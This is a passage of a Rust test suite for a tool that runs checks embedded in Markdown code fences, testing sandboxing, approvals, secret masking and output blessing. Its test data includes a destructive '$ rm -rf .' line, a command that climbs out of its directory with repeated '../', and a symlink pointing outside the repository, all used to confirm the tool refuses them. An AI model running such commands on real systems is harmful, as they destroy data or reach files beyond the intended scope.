    // What was merged, or lies where no pull request comes, counts.
    repo.commit();
    assert_eq!(run("approvals.json").status("wipe"), "passed");
    repo.write("made/x", "");
    let apart = elsewhere.path().join("approvals.json");
    let approvals = repo::approvals_of(&repo.run(&["check", "README.md", "--plan", "--format", "json"]).out);
    std::fs::write(&apart, &approvals).expect("there is room");
    assert_eq!(run(&apart.display().to_string()).status("wipe"), "passed");
}

#[test]
fn what_shares_a_shell_with_a_write_is_judged_as_one() {
    let page = fence("check=read name=look session=s", "cat README.md > /dev/null")
        + &fence("check=write name=make session=s excludeFromRunAll=true", "echo made > made")
        + &fence("check=read name=alone", "true");
    let repo = Repo::with(&page);
    let plan = repo.run(&["check", "README.md", "--plan", "--format", "json"]);
    let look = plan.check("look");
    assert_eq!([&look["effect"], &look["sandbox"], &look["decision"]], ["write", "none", "needs-approval"]);
    assert_eq!(look["raised_by"], "it shares a shell with make, which is a write");
    assert_eq!(plan.check("alone")["effect"], "read");
    let strict = repo.approved(&["--require-sandbox"], &[]);
    assert_eq!(
        [strict.status("look"), strict.status("make"), strict.status("alone")],
        ["error", "blocked", "passed"],
        "{}",
        strict.out
    );
    assert!(!repo.root().join("made").exists());
    let said = repo.approved(&[], &[]);
    assert_eq!([said.status("look"), said.status("make")], ["passed", "passed"]);
    assert_eq!([&said.check("look")["sandbox"], &said.check("look")["approver"]], ["none", "Ada"]);
    // Without the write, the read is one and confined.
    let said = repo.run(&["check", "--format", "json", "--require-sandbox"]);
    assert_eq!(
        (said.status("look").as_str(), said.check("look")["sandbox"].as_str()),
        ("passed", Some("landlock+seccomp"))
    );
}

#[test]
fn what_writes_runs_alone_and_only_when_named() {
    let page = fence("check=write name=make excludeFromRunAll=true", "echo made > made")
        + &fence("check=read name=see", "cat made");
    let repo = Repo::with(&page);
    let said = repo.run(&["check", "--format", "json"]);
    assert_eq!(said.status("see"), "failed");
    assert!(!said.out.contains("\"make\""));
    let said = repo.approved(&["--jobs", "4"], &[]);
    assert_eq!([said.status("make"), said.status("see")], ["passed", "passed"]);
    assert_eq!(said.check("make")["approver"], "Ada");
}

#[test]
fn a_failed_need_blocks_and_a_retry_is_counted() {
    let page = fence("check=read name=a retries=2", "false")
        + &fence("check=read name=b needs=a", "true")
        + &fence("check=read name=c needs=b", "true");
    let said = Repo::with(&page).run(&["check", "--name", "c", "--format", "json"]);
    assert_eq!([said.status("a"), said.status("b"), said.status("c")], ["failed", "blocked", "blocked"]);
    assert_eq!(said.check("a")["attempts"], 3);
}

#[test]
fn what_is_recorded_is_what_the_rules_read() {
    let repo = Repo::with(&(fence("check=read name=node every=30", "echo 1") + &fence("check=read name=bad", "false")));
    assert_eq!(repo.run(&["check", "--record"]).code, 1);
    let recorded: serde_json::Value =
        serde_json::from_str(&repo.read("_ai/devops/checks/local.json")).expect("it is JSON");
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("../schemas/runs.json")).expect("a schema is JSON");
    assert!(jsonschema::is_valid(&schema, &recorded), "{recorded}");
    let said = repo.run(&["lint", "--format", "concise"]);
    assert!(said.out.contains("bad failed in local") && !said.out.contains("stale-run"), "{}", said.out);
    repo.write("README.md", &fence("check=read name=node every=30", "echo 2"));
    let said = repo.run(&["lint", "--format", "concise"]);
    assert!(
        said.out.contains("node has changed since it ran") && said.out.contains("no check bad any more"),
        "{}",
        said.out
    );
    repo.run(&["check", "--record"]);
    assert!(!repo.read("_ai/devops/checks/local.json").contains("\"bad\""));
}

#[test]
fn nothing_is_recorded_outside_of_the_repository() {
    let repo = Repo::with(&fence("check=read name=node", "echo 1"));
    let outside = tempfile::tempdir().expect("there is room");
    std::fs::write(outside.path().join("local.json"), "{\"version\":1,\"runs\":[]}").expect("there is room");
    repo.write("_ai/devops/README.md", "# Pages\n");
    let link = repo.root().join("_ai/devops/checks");
    std::os::unix::fs::symlink(outside.path(), &link).expect("there is room");
    let said = repo.run(&["check", "--record"]);
    assert_eq!(said.code, 2, "{}", said.err);
    assert!(said.err.contains("_ai/devops/checks/local.json is not written: a symbolic link"), "{}", said.err);
    let kept = std::fs::read_to_string(outside.path().join("local.json")).expect("it is there");
    assert_eq!(kept, "{\"version\":1,\"runs\":[]}");
    std::fs::remove_file(&link).expect("it is there");
    std::os::unix::fs::symlink("kept", &link).expect("there is room");
    std::fs::create_dir(repo.root().join("_ai/devops/kept")).expect("there is room");
    assert_eq!(repo.run(&["check", "--record"]).code, 0, "a link within the repository is followed");
    assert!(repo.read("_ai/devops/kept/local.json").contains("\"node\""));
}

#[test]
fn literal_lines_are_blessed_and_patterns_are_not() {
    let output = |lines: &str| format!("```output\n{lines}\n```\n\n");
    let page = |first: &str, second: &str| {
        fence("check=read name=a", "echo one; echo 2; echo three")
            + &output(first)
            + &fence("check=read name=b", "echo x")
            + &output(second)
    };
    let repo = Repo::with(&page("one\n\\d (re)\nfour", "y+ (re)"));
    assert_eq!(repo.run_with(&["check", "--bless"], &[("CI", "true")]).code, 2);
    let said = repo.run(&["check", "--bless"]);
    assert_eq!(repo.read("README.md"), page("one\n\\d (re)\nthree", "y+ (re)"));
    assert!(said.out.contains("-four\n+three"), "{}", said.out);
    assert!(said.err.contains("b is not blessed"), "{}", said.err);
}

#[test]
fn a_line_that_would_be_a_command_is_not_blessed() {
    for line in ["$ rm -rf .", "[3]"] {
        let page = "```console { check=read name=a }\n$ cat log.txt\nolder\n```\n";
        let repo = Repo::with(page);
        repo.write("log.txt", &format!("old\n{line}\n"));
        let said = repo.run(&["check", "--bless"]);
        assert_eq!(repo.read("README.md"), page, "{line}");
        assert!(said.err.contains("would be read as a command or its status"), "{}", said.err);
    }
}

#[test]
fn a_blessed_page_keeps_its_indents_and_the_ends_of_its_lines() {
    for (indent, first) in [("   ", "1. "), ("  ", "- "), ("> ", "> [!NOTE]\n> "), ("\t", "-\t")] {
        for end in ["\n", "\r\n"] {
            let page = |lines: &[&str]| {
                let mut all =
                    vec!["```sh { check=read name=a }", "printf 'one\\n\\n  two\\nthree\\n'", "```", "", "```output"];
                all.extend(lines);
                all.extend(["```", "", "```sh { check=read name=b }", "true", "```"]);
                let one = |line: &&str| {
                    if line.is_empty() { indent.trim_end().to_owned() } else { format!("{indent}{line}") }
                };
                let text = all.iter().map(one).collect::<Vec<_>>().join("\n");
                let text = text.strip_prefix(indent).unwrap_or(&text);
                format!("{first}{text}\n").replace('\n', end)
            };
            let repo = Repo::with(&page(&["old", "", "  two"]));
            let said = repo.run(&["check", "--bless"]);
            assert_eq!(repo.read("README.md"), page(&["one", "", "  two", "three"]), "{}{}", said.out, said.err);
            assert!(repo.run(&["check"]).out.contains("2 passed"), "{first}");
        }
    }
}

#[test]
fn the_table_of_expectations_holds_for_real_processes() {
    type Row = (String, String, Option<Vec<String>>);
    let table: std::collections::BTreeMap<String, Vec<Row>> =
        serde_yaml::from_str(include_str!("checks/expectations.yaml")).expect("the table is read");
    let repo = Repo::with("");
    let (mut page, mut wanted) = (String::new(), Vec::new());
    for (at, (verdict, output, expected)) in table.into_values().flatten().enumerate() {
        repo.write(&format!("cases/{at}.txt"), &output);
        page.push_str(&fence(&format!("check=read name=case-{at}"), &format!("cat cases/{at}.txt")));
        if let Some(lines) = expected {
            let lines: String = lines.iter().map(|line| format!("{line}\n")).collect();
            page.push_str(&format!("```output\n{lines}```\n\n"));
        }
        let status = match verdict.as_str() {
            "pass" => "passed",
            "fail" => "failed",
            _ => "error",
        };
        wanted.push((format!("case-{at}"), status));
    }
    repo.write("README.md", &page);
    let said = repo.run(&["check", "--format", "json"]);
    let document: serde_json::Value = serde_json::from_str(&said.out).expect("it is JSON");
    let checks = document["checks"].as_array().expect("there are checks");
    assert_eq!(checks.len(), wanted.len());
    let wrong: Vec<_> = wanted
        .iter()
        .zip(checks)
        .filter(|((name, status), check)| check["name"] != **name || check["status"] != *status)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    /// Whatever a fence says beside `check=`, it never reaches a process.
    #[test]
    fn a_fence_that_is_no_check_never_runs(infos in prop::collection::vec("(sh|bash|console|python)?( ?\\{[ a-z.=#\"]{0,16}\\})?[ -z]{0,12}", 1..12)) {
        let is_check = |info: &str| info.contains("check");
        let fences: String = infos.iter().filter(|info| !is_check(info)).map(|info| {
            let info = info.replace(['`', '~'], "");
            format!("~~~{info}\n$ touch made\ntouch made\n~~~\n\n")
        }).collect();
        let repo = Repo::with(&fences);
        let said = repo.approved(&[], &[]);
        prop_assert!(!repo.root().join("made").exists());
        prop_assert!(said.out.contains("\"checks\": []"), "{}", said.out);
    }
}

#[test]
fn what_a_page_says_of_a_granted_secret_is_covered_too() {
    let page = fence("check=read name=told secrets=TOKEN", "echo wonderful-horse-battery; false")
        + &fence("check=read name=expected secrets=TOKEN", "echo x")
        + "```output\nwonderful-horse-battery\n```\n";
    let repo = Repo::with(&page);
    for format in ["text", "json", "junit", "tap", "github"] {
        let said = repo.run_with(
            &["check", "--allow-secret", "TOKEN", "--format", format],
            &[("TOKEN", "wonderful-horse-battery")],
        );
        assert!(!said.out.contains("wonderful-horse"), "{format}: {}", said.out);
        assert!(said.out.contains("***"), "{format}: {}", said.out);
    }
}

#[test]
fn a_name_that_no_check_has_is_an_error_in_every_format() {
    let repo = Repo::with(&fence("check=read name=a", "true"));
    for format in ["text", "json", "junit", "tap", "github"] {
        assert_eq!(repo.run(&["check", "--name", "smoke", "--format", format]).code, 2, "{format}");
    }
}

#[test]
fn a_path_that_descends_again_and_again_is_refused() {
    let page = fence("check=read name=a", "echo '{}'") + "```output\n$..a..a..a (json)\n```\n";
    let said = Repo::with(&page).run(&["check", "--format", "json"]);
    assert!(said.out.contains("descends more than 2 times"), "{}", said.out);
}

#[test]
fn an_approval_ends_with_what_a_command_climbs_to() {
    let repo = Repo::with("");
    let root = repo.root().to_str().expect("it is text").trim_start_matches('/').to_owned();
    let climbs = format!("cp {}{root}/conf x", "../".repeat(12));
    repo.write("README.md", &fence("check=write name=climbs excludeFromRunAll=true cwd=tmp", &climbs));
    repo.write("conf", "a\n");
    let approvals = repo.approve();
    let status = || repo.run(&["check", "README.md", "--format", "json", "--approvals", &approvals]).status("climbs");
    assert_eq!(status(), "passed");
    repo.write("conf", "b\n");
    assert_eq!(status(), "needs-approval");
}
